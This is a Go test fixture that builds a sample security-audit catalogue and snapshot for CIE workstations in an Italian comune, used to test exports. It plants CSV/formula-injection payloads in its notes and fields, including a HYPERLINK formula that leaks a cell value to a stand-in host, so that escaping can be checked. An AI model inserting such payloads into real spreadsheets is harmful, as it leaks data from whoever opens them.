package export

import (
	"time"

	"github.com/cieaudit/cieaudit/checklist"
)

// Injection payloads planted in the fixture's free text: each would run as a
// formula (or DDE) if a spreadsheet read it unescaped.
var injectionPayloads = []string{
	`=HYPERLINK("http://x.example/?leak="&A1,"Clicca")`,
	"+1",
	"-2",
	"@SUM(A1)",
	"\tTAB iniziale",
	"\rCR iniziale",
}

// fixtureCatalogue is a small but complete catalogue: the three scope kinds,
// every answer kind, normative and inferred measures, threats and bands.
func fixtureCatalogue() *checklist.Catalogue {
	return &checklist.Catalogue{
		ID:       "cie-postazioni",
		Version:  "2026.1",
		Title:    "Misure di sicurezza delle postazioni CIE",
		Language: "it",
		Source:   "D.M. 2/8/2005, Allegato A, circolari 4/2017 e 8/2017",
		Digest:   "3f1c0ffee0ddba11c0de5eed0123456789abcdef0123456789abcdef01234567",
		Raw:      []byte("# catalogo di prova (la sorgente del catalogo costruito in memoria)\n"),
		Risk: checklist.RiskScale{
			Probability: []checklist.ScaleLevel{
				{Value: 1, Label: "Improbabile", Description: "Non si è mai verificato"},
				{Value: 2, Label: "Poco probabile", Description: "Si è verificato altrove"},
				{Value: 3, Label: "Probabile", Description: "Si è già verificato"},
				{Value: 4, Label: "Molto probabile", Description: "Si verifica spesso"},
			},
			Impact: []checklist.ScaleLevel{
				{Value: 1, Label: "Trascurabile", Description: "Nessun danno per i cittadini"},
				{Value: 2, Label: "Limitato", Description: "Disservizio recuperabile"},
				{Value: 3, Label: "Grave", Description: "Dati personali esposti"},
				{Value: 4, Label: "Gravissimo", Description: "Emissione fraudolenta di documenti"},
			},
			Bands: []checklist.Band{
				{ID: "basso", Label: "Basso", Max: 3, Colour: "#2e7d32"},
				{ID: "medio", Label: "Medio", Max: 6, Colour: "#f9a825"},
				{ID: "alto", Label: "Alto", Max: 9, Colour: "#ef6c00"},
				{ID: "critico", Label: "Critico", Max: 16, Colour: "#c62828"},
			},
			PartialFactor: 0.5,
			MaxMitigation: 80,
		},
		Threats: []checklist.Threat{
			{ID: "T01", Name: "Accesso fisico non autorizzato alla postazione", Description: "Persone estranee raggiungono la postazione o i moduli.", Source: checklist.SourceHuman, Areas: []checklist.ImpactArea{checklist.AreaConfidentiality, checklist.AreaIntegrity}, Probability: 3, Impact: 4},
			{ID: "T02", Name: "Furto o manomissione dell'hardware", Description: "Sottrazione del lettore di impronte o della smart card operatore.", Source: checklist.SourceHuman, Areas: []checklist.ImpactArea{checklist.AreaAvailability, checklist.AreaIntegrity}, Probability: 2, Impact: 4},
			{ID: "T03", Name: "Uso improprio delle credenziali dell'operatore", Description: "Smart card e PIN condivisi tra colleghi.", Source: checklist.SourceHuman, Areas: []checklist.ImpactArea{checklist.AreaIntegrity}, Probability: 3, Impact: 3},
			{ID: "T04", Name: "Malware sulla postazione", Description: "Software malevolo intercetta i dati anagrafici e biometrici.", Source: checklist.SourceTools, Areas: []checklist.ImpactArea{checklist.AreaConfidentiality}, Probability: 2, Impact: 3},
			{ID: "T05", Name: "Interruzione del servizio", Description: "Guasti, blackout o rete assente: la città resta senza CIE.", Source: checklist.SourceEnvironment, Areas: []checklist.ImpactArea{checklist.AreaAvailability}, Probability: 2, Impact: 2},
		},
		Sections: []checklist.Section{
			{ID: "ORG", Title: "Organizzazione e responsabilità", Description: "Nomine, formazione e procedure dell'ente.", Items: []checklist.Item{
				{ID: "ORG-01", Category: checklist.CategoryOrganisational, Scope: checklist.ScopeEnte, Level: checklist.LevelMinimum, Short: "Nomina del responsabile della sicurezza", Question: "Il Sindaco ha nominato per iscritto il responsabile della sicurezza CIE?", Reference: "D.M. 2/8/2005, Allegato A", Origin: []checklist.Origin{checklist.OriginDecree, checklist.OriginAnnexA}, Threats: []checklist.ThreatLink{{Threat: "T03", Mitigation: 30}}},
				{ID: "ORG-02", Category: checklist.CategoryOrganisational, Scope: checklist.ScopeEnte, Level: checklist.LevelStandard, Short: "Formazione degli operatori", Question: "Gli operatori hanno seguito la formazione prevista dalla circolare 4/2017?", Reference: "Circ. MI 4/2017", Origin: []checklist.Origin{checklist.OriginCircular}, Threats: []checklist.ThreatLink{{Threat: "T03", Mitigation: 20}, {Threat: "T04", Mitigation: 10}}},
				{ID: "ORG-03", Category: checklist.CategoryOrganisational, Scope: checklist.ScopeEnte, Level: checklist.LevelHigh, Short: "Registro degli incidenti", Question: "Esiste un registro degli incidenti di sicurezza con data, descrizione e azioni?", Origin: []checklist.Origin{checklist.OriginInferred}, Threats: []checklist.ThreatLink{{Threat: "T05", Mitigation: 20}}},
				{ID: "ORG-04", Category: checklist.CategoryOrganisational, Scope: checklist.ScopeEnte, Level: checklist.LevelStandard, Short: "Numero di operatori abilitati", Question: "Quanti operatori sono abilitati all'emissione?", Answer: checklist.AnswerSpec{Kind: checklist.KindNumber, Unit: "persone"}},
			}},
			{ID: "FIS", Title: "Sicurezza fisica dei locali", Description: "Accessi, custodia e ambiente delle sedi.", Items: []checklist.Item{
				{ID: "FIS-01", Category: checklist.CategoryPhysical, Scope: checklist.ScopeSede, Level: checklist.LevelMinimum, Short: "Accesso controllato all'ufficio", Question: "L'accesso all'area delle postazioni è controllato e separato dal pubblico?", Reference: "Allegato A, misure fisiche", Origin: []checklist.Origin{checklist.OriginAnnexA}, Threats: []checklist.ThreatLink{{Threat: "T01", Mitigation: 40}, {Threat: "T02", Mitigation: 20}}},
				{ID: "FIS-02", Category: checklist.CategoryPhysical, Scope: checklist.ScopeSede, Level: checklist.LevelStandard, Short: "Custodia delle smart card operatore", Question: "Le smart card operatore sono custodite in cassaforte fuori orario?", Reference: "Circ. MI 4/2017", Origin: []checklist.Origin{checklist.OriginCIE30, checklist.OriginInferred}, Threats: []checklist.ThreatLink{{Threat: "T02", Mitigation: 40}, {Threat: "T03", Mitigation: 20}}},
				{ID: "FIS-03", Category: checklist.CategoryPhysical, Scope: checklist.ScopeSede, Level: checklist.LevelHigh, Short: "Gruppo di continuità", Question: "Le postazioni sono protette da un gruppo di continuità (UPS)?", Origin: []checklist.Origin{checklist.OriginInferred}, Threats: []checklist.ThreatLink{{Threat: "T05", Mitigation: 40}}},
			}},
			{ID: "TEC", Title: "Sicurezza tecnica delle postazioni", Description: "Configurazione, aggiornamenti e protezione dei PC.", Items: []checklist.Item{
				{ID: "TEC-01", Category: checklist.CategoryTechnical, Scope: checklist.ScopePostazione, Level: checklist.LevelMinimum, Short: "Blocco automatico dello schermo", Question: "Lo schermo si blocca dopo al massimo 5 minuti di inattività?", Reference: "Prassi CIE 3.0", Origin: []checklist.Origin{checklist.OriginCIE30}, Threats: []checklist.ThreatLink{{Threat: "T01", Mitigation: 30}, {Threat: "T03", Mitigation: 10}}},
				{ID: "TEC-02", Category: checklist.CategoryTechnical, Scope: checklist.ScopePostazione, Level: checklist.LevelStandard, Short: "Antivirus aggiornato", Question: "L'antivirus è attivo e aggiornato?", Origin: []checklist.Origin{checklist.OriginInferred}, Threats: []checklist.ThreatLink{{Threat: "T04", Mitigation: 50}}},
				{ID: "TEC-03", Category: checklist.CategoryTechnical, Scope: checklist.ScopePostazione, Level: checklist.LevelStandard, Short: "Aggiornamenti del sistema operativo", Question: "Come vengono installati gli aggiornamenti del sistema operativo?", Origin: []checklist.Origin{checklist.OriginCIE30, checklist.OriginInferred}, Answer: checklist.AnswerSpec{Kind: checklist.KindChoice, Choices: []checklist.Choice{
					{ID: "auto", Label: "Automatici", Outcome: checklist.OutcomeYes},
					{ID: "manuali", Label: "Manuali, periodici", Outcome: checklist.OutcomePartial},
					{ID: "mai", Label: "Mai", Outcome: checklist.OutcomeNo},
				}}, Threats: []checklist.ThreatLink{{Threat: "T04", Mitigation: 30}}},
				{ID: "TEC-04", Category: checklist.CategoryTechnical, Scope: checklist.ScopePostazione, Level: checklist.LevelHigh, Short: "Data dell'ultima verifica del lettore", Question: "Quando è stato verificato l'ultima volta il lettore di impronte?", Origin: []checklist.Origin{checklist.OriginInferred}, Answer: checklist.AnswerSpec{Kind: checklist.KindDate}},
			}},
		},
	}
}

var fixtureStart = time.Date(2026, 3, 9, 8, 30, 0, 0, time.UTC)

// at returns the fixture clock n minutes after the audit started.
func at(n int) time.Time { return fixtureStart.Add(time.Duration(n) * time.Minute) }

// fixtureSnapshot is a realistic audit of one comune: two sedi, three
// postazioni, accented text, every outcome, notes carrying injection
// payloads, evaluations, history, action plans and an override.
func fixtureSnapshot() *checklist.Snapshot {
	cat := fixtureCatalogue()
	audit := checklist.Audit{
		ID: "aud-2026-0001",
		Ente: checklist.Ente{
			Name: "Comune di Sant'Agata de' Goti", ISTAT: "062071", Province: "BN", Prefettura: "Prefettura di Benevento",
			Population: 11000, Sindaco: "Maria Luisa Però", ResponsabileSicurezza: "Nicolò Esposito", ReferenteCIE: "Lucia D'Angelo",
		},
		Year:      2026,
		Auditors:  []string{"Andrea Fabbri", "Chiara Mélis"},
		StartDate: "2026-03-09",
		EndDate:   "2026-03-10",
		Status:    checklist.StatusInProgress,

		CatalogueID: cat.ID, CatalogueVersion: cat.Version, CatalogueDigest: cat.Digest,
		Sedi: []checklist.Sede{
			{Name: "Municipio", Address: "Piazza Municipio 1, Sant'Agata de' Goti", Rooms: []string{"Ufficio anagrafe", "Archivio"}},
			{Name: "Delegazione Faggiano", Address: "Via della Libertà 12, località Faggiano", Rooms: []string{"Sportello unico"}},
		},
		Postazioni: []checklist.Postazione{
			{Code: "001234", Sede: "Municipio", Room: "Ufficio anagrafe", Office: checklist.OfficeFront, OS: "Windows 10 Pro 22H2",
				Hardware: checklist.Inventory{PC: "Lenovo ThinkCentre M720q — s/n PC0ABC12", LettoreImpronte: "Green Bit DactyScan84c s/n 84C-001", LettoreSmartCard: "Bit4id miniLector EVO", Multifunzione: "Kyocera ECOSYS M2540dn", LettoreBarcode: "Datalogic QuickScan QD2430"},
				Notes:    "Postazione vicina alla finestra: il monitor è visibile dal corridoio."},
			{Code: "001235", Sede: "Municipio", Room: "Archivio", Office: checklist.OfficeBack, OS: "Windows 11 Pro",
				Hardware: checklist.Inventory{PC: "HP ProDesk 400 G7", LettoreImpronte: "Green Bit DactyScan84c", LettoreSmartCard: "Bit4id miniLector EVO", Altro: "=HYPERLINK(\"http://x\")"}},
			{Code: "002001", Sede: "Delegazione Faggiano", Room: "Sportello unico", Office: checklist.OfficeFront, OS: "Windows 10 Pro",
				Hardware: checklist.Inventory{PC: "Dell OptiPlex 3080", LettoreImpronte: "Green Bit DactyScan84c", LettoreSmartCard: "Bit4id miniLector EVO", Multifunzione: "Epson WF-C5790"},
				Notes:    "+1 postazione prevista nel 2027"},
		},
		CreatedAt: fixtureStart,
		UpdatedAt: at(200),
	}
	ente := checklist.EnteScope
	mun := checklist.Scope{Kind: checklist.ScopeSede, Name: "Municipio"}
	fag := checklist.Scope{Kind: checklist.ScopeSede, Name: "Delegazione Faggiano"}
	p1 := checklist.Scope{Kind: checklist.ScopePostazione, Name: "001234"}
	p2 := checklist.Scope{Kind: checklist.ScopePostazione, Name: "001235"}
	p3 := checklist.Scope{Kind: checklist.ScopePostazione, Name: "002001"}
	ans := func(sc checklist.Scope, item, value, note string, min int) checklist.Answer {
		return checklist.Answer{Scope: sc, Item: item, Value: value, Note: note, Author: "Andrea Fabbri", At: at(min), Rev: 1}
	}
	answers := []checklist.Answer{
		// Deliberately not in report order: exports must sort.
		ans(p3, "TEC-01", "no", injectionPayloads[0], 150),
		ans(ente, "ORG-01", "si", "Decreto sindacale n. 12 del 3/2/2026, firmato e protocollato.", 10),
		ans(ente, "ORG-02", "parziale", "Formati 2 operatori su 3; il terzo è in attesa del corso “CIE 3.0”.", 12),
		ans(ente, "ORG-03", "no", injectionPayloads[1], 14),
		ans(ente, "ORG-04", "3", "", 15),
		ans(mun, "FIS-01", "si", "Porta con badge; il pubblico attende in sala d'aspetto.", 40),
		ans(mun, "FIS-02", "parziale", injectionPayloads[2], 42),
		ans(mun, "FIS-03", "na", "Ufficio servito dal gruppo elettrogeno comunale: l'UPS non è necessario.", 44),
		ans(fag, "FIS-01", "no", injectionPayloads[3], 90),
		ans(fag, "FIS-02", "no", injectionPayloads[4], 92),
		ans(p1, "TEC-01", "si", "", 60),
		ans(p1, "TEC-02", "si", "Definizioni del 08/03/2026.", 61),
		ans(p1, "TEC-03", "auto", "", 62),
		ans(p1, "TEC-04", "2026-01-15", injectionPayloads[5], 63),
		ans(p2, "TEC-01", "parziale", "Blocco dopo 15 minuti, non 5. Perché?", 70),
		ans(p2, "TEC-02", "no", "Antivirus scaduto il 31/12/2025 — da rinnovare.", 71),
		ans(p2, "TEC-03", "mai", "", 72),
		ans(p3, "TEC-02", "si", "", 151),
	}
	answers[1].Rev = 2
	history := []checklist.Change{
		{Seq: 1, At: fixtureStart, Author: "Andrea Fabbri", Kind: checklist.ChangeAudit, New: "Audit creato"},
		{Seq: 2, At: at(5), Author: "Andrea Fabbri", Kind: checklist.ChangeStatus, Old: "bozza", New: "in_corso"},
		{Seq: 3, At: at(10), Author: "Andrea Fabbri", Kind: checklist.ChangeAnswer, Scope: "ente", Item: "ORG-01", Old: "", New: "no"},
		{Seq: 4, At: at(11), Author: "Chiara Mélis", Kind: checklist.ChangeAnswer, Scope: "ente", Item: "ORG-01", Old: "no", New: "si", Reason: "Decreto trovato in archivio"},
		{Seq: 5, At: at(150), Author: "Andrea Fabbri", Kind: checklist.ChangeNote, Scope: "postazione:002001", Item: "TEC-01", New: injectionPayloads[0]},
		{Seq: 6, At: at(160), Author: "Chiara Mélis", Kind: checklist.ChangeRisk, Item: "T05", Old: "2×2", New: "3×2", Reason: "Tre blackout nell'ultimo anno"},
		{Seq: 7, At: at(170), Author: "Chiara Mélis", Kind: checklist.ChangeAction, Item: "TEC-02", New: "Ufficio CED, 2026-04-30"},
		{Seq: 8, At: at(200), Author: "Chiara Mélis", Kind: checklist.ChangeEvaluation, Scope: "sede:Municipio", Item: "FIS", New: "Valutazione aggiornata"},
	}
	evaluations := []checklist.Evaluation{
		{Scope: ente, Section: "ORG", Text: "L'organizzazione è definita; manca il registro degli incidenti.", Author: "Chiara Mélis", At: at(30)},
		{Scope: mun, Section: "FIS", Text: "Locali adeguati. Le smart card restano nel cassetto durante la pausa pranzo: va prevista la cassaforte.", Author: "Chiara Mélis", At: at(200)},
		{Scope: p2, Section: "TEC", Text: "@SUM(A1) — postazione di back office da rivedere.", Author: "Andrea Fabbri", At: at(75)},
	}
	return &checklist.Snapshot{
		Audit:       audit,
		Catalogue:   cat,
		Answers:     answers,
		Evaluations: evaluations,
		History:     history,
		Actions: map[string]checklist.ActionPlan{
			"TEC-02": {Item: "TEC-02", Owner: "Ufficio CED", Due: "2026-04-30", Status: checklist.ActionInProgress},
			"FIS-02": {Item: "FIS-02", Owner: "-2 Economato", Due: "2026-06-30", Status: checklist.ActionToStart},
		},
		Overrides: map[string]checklist.RiskOverride{
			"T05": {Threat: "T05", Probability: 3, Impact: 2, Reason: "Tre blackout nell'ultimo anno"},
		},
		// The plan was sent before the answers of minute 10 and 11: they
		// are variations.
		Plan: checklist.Plan{Edition: checklist.EditionBeta, AdoptedAct: "delibera di Giunta n. 7", AdoptedOn: "2026-03-02",
			SentOn: "2026-03-09", Channel: checklist.ChannelPEC, Receipt: "PEC 2026/118", Outcome: checklist.OutcomePending},
		Baselines: []checklist.Baseline{{Seq: 1, Edition: checklist.EditionBeta, SentOn: "2026-03-09", Channel: checklist.ChannelPEC, FixedAt: at(9),
			Organisation: audit.Ente, Sedi: audit.Sedi, Postazioni: audit.Postazioni, Operators: []checklist.Operator{},
			Outcomes: []checklist.MeasureOutcome{{Scope: ente, Item: "ORG-02", Outcome: checklist.OutcomePartial}}}},
		Operators: []checklist.Operator{
			{ID: "op-1", Name: "Lucia D'Angelo", Role: checklist.RoleRegistrar, SCO: "SCO-0001", SCODelivered: "2025-11-03", Postazioni: []string{"001234", "001235"}},
			{ID: "op-2", Name: injectionPayloads[1], Role: checklist.RoleDelegate, SCO: "SCO-0002", SCODelivered: "2026-01-10", Postazioni: []string{"002001"}},
		},
		Events: []checklist.SecurityEvent{
			{ID: "ev-1", At: "2026-03-08T17:20", Scope: p1, Threat: "T05", Description: injectionPayloads[2],
				Areas: []checklist.ImpactArea{checklist.AreaConfidentiality}, Actions: "Password cambiate.",
				Notified: []checklist.Notice{{To: checklist.NotifyPrefettura, At: "2026-03-09T09:00"}, {To: checklist.NotifyGarante, At: "2026-03-12T08:00"}},
				Status:   checklist.EventClosed, ClosedOn: "2026-03-10", CloseNote: "Nessun dato esfiltrato."},
		},
	}
}
